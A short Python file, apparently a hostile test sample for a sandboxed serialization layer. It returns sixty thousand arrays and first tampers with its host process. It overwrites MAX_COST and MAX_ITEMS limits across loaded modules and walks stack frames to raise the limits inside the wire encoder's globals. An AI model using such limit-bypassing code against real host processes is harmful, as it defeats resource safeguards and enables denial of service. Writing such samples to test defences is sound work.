# /// attack
# tries = "Answers with sixty thousand small arrays, and lifts the bounds of its own process to have them sent."
# gain = "harm"
# plain = "nothing"
# ///
import sys

import numpy as np

MANY = [np.ones(2) for _ in range(60_000)]


def lift():
    for module in list(sys.modules.values()):
        for name in ("MAX_COST", "MAX_ITEMS"):
            if hasattr(module, name):
                setattr(module, name, 2**40)
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "session") and hasattr(me, "fd"):
            for module in (type(me).write.__globals__, type(me).write.__globals__["wire"].encode.__globals__):
                module["MAX_COST"] = 2**40
        frame = frame.f_back


def double(x):
    lift()
    return MANY


class Box:
    held = MANY

    def put(self, x):
        lift()

    def take(self):
        return tuple(MANY)


def apply(f, x):
    lift()
    f(MANY)
    return MANY
